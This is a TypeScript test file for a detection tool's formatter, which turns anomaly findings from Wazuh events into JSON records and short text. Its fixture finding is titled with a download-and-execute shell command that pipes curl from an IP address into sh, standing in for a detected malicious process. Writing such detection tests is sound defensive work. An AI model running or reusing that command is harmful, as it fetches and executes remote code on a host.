import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { findingRecord, isoTime, scoreInWords, shortNumber, whereabouts } from '../../src/text/finding.ts';
import { finding } from '../support/findings.ts';

test('the JSON shape of a finding', () => {
  const one = finding();
  assert.deepEqual(findingRecord(one), {
    id: 'lof:wazuh:manager:1767348672.1001',
    time: '2026-01-02T10:11:12.000Z',
    detector: 'lof',
    title: "bash -c 'curl http://203.0.113.9/x | sh'",
    score: 2.314159,
    threshold: 1.5,
    p_value: 0.0002,
    rank: 1,
    count: 1,
    entity: { type: 'host', name: 'web-1' },
    reasons: one.reasons,
    event: {
      id: 'wazuh:manager:1767348672.1001',
      time: '2026-01-02T10:11:12.000Z',
      source: 'wazuh',
      kind: 'process',
      fields: one.event.fields,
    },
    raw: '{"rule":{"id":"80792"}}',
  });
});

test('without calibration there is no p_value, and the words do not speak of one', () => {
  const { pValue: _, ...rest } = finding();
  assert.equal('p_value' in findingRecord(rest), false);
  assert.equal(scoreInWords(rest), 'score 2.314, threshold 1.5');
  assert.equal(scoreInWords(finding()), 'score 2.314, threshold 1.5, p 0.0002');
});

test('any number is a time', () => {
  fc.assert(fc.property(fc.double(), (time) => assert.match(isoTime(time), /^[+-]?\d{4,6}-\d\d-\d\dT[\d:.]{12}Z$/)));
});

test('numbers are short', () => {
  assert.deepEqual([1.23456, 0.00012347, 1234567, -2, 0].map(shortNumber), [
    '1.235',
    '0.0001235',
    '1235000',
    '-2',
    '0',
  ]);
});

test('the host is named when the entity is something else', () => {
  assert.equal(whereabouts(finding()), 'host web-1');
  assert.equal(whereabouts(finding({ entity: { type: 'user', name: 'alice' } })), 'user alice on web-1');
});
